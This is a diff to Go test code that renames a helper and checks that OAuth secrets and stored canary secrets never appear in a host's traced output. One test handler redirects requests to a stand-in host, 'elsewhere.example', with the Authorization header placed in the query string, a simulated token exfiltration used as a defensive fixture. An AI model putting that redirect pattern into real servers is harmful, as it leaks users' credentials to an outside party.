@@ -30,7 +30,7 @@ type recordingHost struct {
 	home string // all its files
 }
 
-func newConfidant(t *testing.T) *recordingHost {
+func newRecordingHost(t *testing.T) *recordingHost {
 	c := &recordingHost{home: t.TempDir()}
 	tr, err := trace.NewPrinter("rpc,abi,io", &c.said)
 	if err != nil {
@@ -102,7 +102,7 @@ func TestNothingShowsASecret(t *testing.T) {
 			http.Redirect(rw, r, "http://elsewhere.example/?t="+url.QueryEscape(r.Header.Get("Authorization")), http.StatusTemporaryRedirect)
 		},
 	}
-	c := newConfidant(t)
+	c := newRecordingHost(t)
 	entry := w.entry("protectedServer")
 	entry.Auth = config.Auth{Provider: "oauth", Settings: map[string]any{"client_id": "mine", "client_secret": oauthtest.Canary + "own"}}
 	for _, e := range []host.Server{w.entry("protectedServer"), entry} {
@@ -143,7 +143,7 @@ func TestNothingShowsASecret(t *testing.T) {
 // own program prints.
 func TestNothingShowsAWrittenSecret(t *testing.T) {
 	_, address := newGuarded(t, oauthtest.Canary+"good")
-	c := newConfidant(t)
+	c := newRecordingHost(t)
 	if err := c.vault().StoreSecret(t.Context(), "mine", oauthtest.Canary+"good"); err != nil {
 		t.Fatal(err)
 	}
